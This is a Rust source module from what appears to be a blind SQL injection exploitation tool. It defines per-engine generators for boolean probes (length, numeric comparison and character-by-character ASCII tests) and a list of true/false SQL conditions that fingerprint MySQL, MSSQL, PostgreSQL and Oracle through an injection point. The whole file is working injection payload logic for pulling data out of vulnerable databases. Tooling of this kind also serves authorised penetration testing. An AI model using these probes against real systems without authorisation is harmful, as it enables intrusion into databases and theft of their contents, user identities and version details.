//! Engine dialects.
//!
//! Every probe this tool sends is a pure boolean condition meant to be
//! spliced into a host construct such as `CASE WHEN (...) THEN ... ELSE ...
//! END` or `IF(...,...,...)`. The `Dialect` trait produces those conditions
//! for each supported engine; implementations are stateless values.

mod mssql;
mod mysql;
mod oracle;
mod postgres;
mod prefixes;

pub use prefixes::version_prefixes;

use mssql::MsSqlDialect;
use mysql::MySqlDialect;
use oracle::OracleDialect;
use postgres::PostgresDialect;

/// Supported database engines.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DatabaseKind {
    MySQL,
    MSSQL,
    PostgreSQL,
    Oracle,
    Unknown,
}

impl std::fmt::Display for DatabaseKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            DatabaseKind::MySQL => "mysql",
            DatabaseKind::MSSQL => "mssql",
            DatabaseKind::PostgreSQL => "postgres",
            DatabaseKind::Oracle => "oracle",
            DatabaseKind::Unknown => "unknown",
        };
        write!(f, "{s}")
    }
}

impl DatabaseKind {
    /// Parse a user- or cache-supplied engine name. Accepts common aliases.
    pub fn parse(s: &str) -> DatabaseKind {
        match s.to_lowercase().as_str() {
            "mysql" | "mariadb" => DatabaseKind::MySQL,
            "mssql" | "sqlserver" | "sql server" => DatabaseKind::MSSQL,
            "postgres" | "postgresql" | "pgsql" => DatabaseKind::PostgreSQL,
            "oracle" | "ora" => DatabaseKind::Oracle,
            _ => DatabaseKind::Unknown,
        }
    }
}

/// Boolean SQL fragment generators for one engine.
///
/// All conditions are returned without trailing semicolons, comment
/// terminators, or outer parentheses beyond what is shown, so they can be
/// substituted directly into the injection point.
pub trait Dialect: Sync {
    /// Queries that return the engine version banner, in preference order.
    fn version_queries(&self) -> &'static [&'static str];

    /// `LENGTH((query)) > n` in this engine's spelling.
    fn length_probe(&self, query: &str, n: i64) -> String;

    /// `(query) > n` for numeric results.
    fn comparison_probe(&self, query: &str, n: i64) -> String;

    /// `ASCII(char at pos of (query)) > n`. Position is 1-based.
    fn char_probe(&self, query: &str, pos: usize, n: u8) -> String;

    /// `ASCII(char at pos of (query)) = code`. Position is 1-based.
    fn equality_probe(&self, query: &str, pos: usize, code: u8) -> String;

    /// Query returning the current database name.
    fn current_database_query(&self) -> &'static str;

    /// Query returning the current database user.
    fn current_user_query(&self) -> &'static str;
}

static MYSQL: MySqlDialect = MySqlDialect;
static MSSQL: MsSqlDialect = MsSqlDialect;
static POSTGRES: PostgresDialect = PostgresDialect;
static ORACLE: OracleDialect = OracleDialect;

/// Dialect for an engine, or `None` for `Unknown`.
pub fn dialect_for(kind: DatabaseKind) -> Option<&'static dyn Dialect> {
    match kind {
        DatabaseKind::MySQL => Some(&MYSQL),
        DatabaseKind::MSSQL => Some(&MSSQL),
        DatabaseKind::PostgreSQL => Some(&POSTGRES),
        DatabaseKind::Oracle => Some(&ORACLE),
        DatabaseKind::Unknown => None,
    }
}

/// One engine-discriminating probe pair.
///
/// The TRUE condition holds on the named engine and errors elsewhere; the
/// FALSE condition parses on the named engine but evaluates to false.
#[derive(Debug, Clone, Copy)]
pub struct DetectionProbe {
    pub kind: DatabaseKind,
    pub description: &'static str,
    pub true_condition: &'static str,
    pub false_condition: &'static str,
}

/// Ordered detection probes, tried first to last.
pub fn detection_probes() -> &'static [DetectionProbe] {
    &[
        DetectionProbe {
            kind: DatabaseKind::MySQL,
            description: "MySQL version() function",
            true_condition: "SUBSTRING(version(),1,1) BETWEEN '0' AND '9'",
            false_condition: "SUBSTRING(version(),1,1)='z'",
        },
        DetectionProbe {
            kind: DatabaseKind::MySQL,
            description: "MySQL @@version variable",
            true_condition: "SUBSTRING(@@version,1,1) BETWEEN '0' AND '9'",
            false_condition: "SUBSTRING(@@version,1,1)='z'",
        },
        DetectionProbe {
            kind: DatabaseKind::MSSQL,
            description: "MSSQL @@version variable",
            true_condition: "SUBSTRING(@@version,1,1)='M'",
            false_condition: "SUBSTRING(@@version,1,1)='z'",
        },
        DetectionProbe {
            kind: DatabaseKind::PostgreSQL,
            description: "PostgreSQL version() function",
            true_condition: "SUBSTRING(version(),1,1)='P'",
            false_condition: "SUBSTRING(version(),1,1)='z'",
        },
        DetectionProbe {
            kind: DatabaseKind::Oracle,
            description: "Oracle v$version banner",
            true_condition: "(SELECT SUBSTR(banner,1,1) FROM v$version WHERE ROWNUM=1)='O'",
            false_condition: "(SELECT SUBSTR(banner,1,1) FROM v$version WHERE ROWNUM=1)='z'",
        },
        DetectionProbe {
            kind: DatabaseKind::Oracle,
            description: "Oracle v$instance version",
            true_condition: "(SELECT SUBSTR(version,1,1) FROM v$instance) BETWEEN '0' AND '9'",
            false_condition: "(SELECT SUBSTR(version,1,1) FROM v$instance)='z'",
        },
    ]
}
